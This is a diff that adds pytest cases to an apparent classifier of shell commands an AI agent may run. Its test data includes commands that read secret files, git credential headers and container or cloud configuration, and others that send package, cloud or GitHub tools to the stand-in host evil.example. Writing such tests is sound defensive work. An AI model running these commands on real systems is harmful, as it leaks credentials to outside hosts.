@@ -36,6 +36,59 @@ def test_effect_of_what_may_reach_out(command: str, effect: str):
 
 
 @pytest.mark.parametrize(
+    "command",
+    [
+        "cat secrets.yaml",
+        "cat t*.tfv*",
+        "cat < prod.tfvars",
+        "jq . a.tfvars.json",
+        "git show HEAD:prod.tfvars",
+        "cat .git/*",
+        "git config --list",
+        "git config get http.extraheader",
+        "bundle config",
+        "docker inspect web",
+        "docker image inspect -f '{{json .Config}}' web",
+        "aws lambda get-function-configuration --function-name x",
+        "npm view x --registry http://localhost:x@evil.example",
+        "npm ping --@scope:registry=http://evil.example",
+        "pip list -o -ihttp://evil.example",
+        "aws s3 ls --endpoint-url=http://evil.example",
+        "kubectl get pods --server http://evil.example",
+        "gh api user --hostname evil.example",
+        "gh api https://evil.example/x",
+        "helm search repo x --repo http://evil.example",
+        "bazel query //...",
+        "go list -export ./...",
+        "cargo +other tree",
+        "xmllint --noent a.xml",
+        "xmllint -noent a.xml",
+    ],
+)
+def test_what_may_show_or_send_secrets_is_confined(command: str):
+    assert judge(command, phase="recon").effect in ("unclear", "outside")
+
+
+@pytest.mark.parametrize(
+    "command",
+    [
+        "ls *.tfvars",
+        "cat prod.tfvars.example",
+        "cat *.yaml",
+        "git config --get remote.origin.url",
+        "docker inspect -f '{{.State.Status}}' web",
+        "aws lambda list-functions --query 'Functions[].FunctionName'",
+        "npm view x --registry http://localhost:4873",
+        "go list ./...",
+        "cargo tree",
+        "xmllint --xpath //a a.xml",
+    ],
+)
+def test_reading_beside_what_may_hold_secrets(command: str):
+    assert judge(command, phase="recon").effect == "reading"
+
+
+@pytest.mark.parametrize(
     ("command", "kind", "reason"),
     [
         ("npx cat .env", READ, "secret"),
